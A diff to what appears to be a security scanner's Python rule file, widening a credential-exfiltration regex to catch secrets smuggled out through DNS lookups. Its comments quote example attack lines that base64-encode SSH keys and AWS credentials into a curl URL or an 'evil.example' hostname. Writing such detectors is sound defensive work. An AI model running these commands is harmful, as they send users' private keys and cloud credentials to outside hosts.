@@ -565,8 +565,9 @@ _shell_rule("code.sh_credential_exfil", re.compile(
     r"|configure\s+export-credentials|ecr\s+get-login-password)|vault\s+(?:kv\s+get|read|token\s+create)"
     r"|kubectl\s+(?:create\s+token|get\s+secrets?))\b[^\n;|]{0,200}?\|\s*(?:sudo\s+)?" + _NET + r"\b"
     + r"|\b(?:nc|ncat|netcat|socat|telnet)\b[^\n|;]{0,100}?<\s*[\"']?" + _CRED
-    # ... or read into the request itself: "curl https://x/$(cat ~/.ssh/id_rsa | base64)", "?k=$(base64 ~/.netrc)"
-    + r"|\b(?:curl|wget)\b[^\n;]{0,200}?(?:\$\(|`)\s*(?:sudo\s+)?(?:cat|base64|xxd|gzip|openssl\s+base64|head|tail)"
+    # ... or read into the request itself: "curl https://x/$(cat ~/.ssh/id_rsa | base64)", "?k=$(base64 ~/.netrc)",
+    # or into a name looked up ("nslookup $(cat ~/.aws/credentials | base64 | head -c 60).evil.example": DNS)
+    + r"|\b(?:curl|wget|nslookup|dig|host|drill|ping)\b[^\n;]{0,200}?(?:\$\(|`)\s*(?:sudo\s+)?(?:cat|base64|xxd|gzip|openssl\s+base64|head|tail)"
       r"\b[^\n)`|]{0,40}?\s[\"']?" + _CRED
     + r"|\b(?:scp|rsync|sftp)\b[^\n|;]{0,200}?\s[\"']?" + _CRED + r"[\"']?(?:\s+-\S+)*\s+[\w.-]+@?[\w.-]*:"
     + r"|\bfind\b[^\n]{0,160}?-i?name\s+[\"']?[^\s\"']*"
@@ -588,7 +589,8 @@ _shell_rule("code.sh_credential_exfil", re.compile(
     "a credential store sent off the machine (an SSH private key, cloud or registry credentials, /etc/shadow "
     "uploaded, piped to the network, copied to a remote host or read into a Python request; a cloud or cluster "
     "token printed and piped to the network; every home packed and piped to the network)",
-    "MITRE ATT&CK T1552.004 (private keys), T1552.001 (credentials in files), T1048/T1041 (exfiltration)",
+    "MITRE ATT&CK T1552.004 (private keys), T1552.001 (credentials in files), T1048/T1041 (exfiltration), "
+    "T1048.003 (over DNS)",
     itriggers=("privatekey",), prose=True)
 # The system's own credentials dumped (MITRE ATT&CK T1003): Mimikatz and its sekurlsa module, the
 # LSASS process's memory written to a file (procdump, comsvcs.dll's MiniDump), the SAM, SECURITY
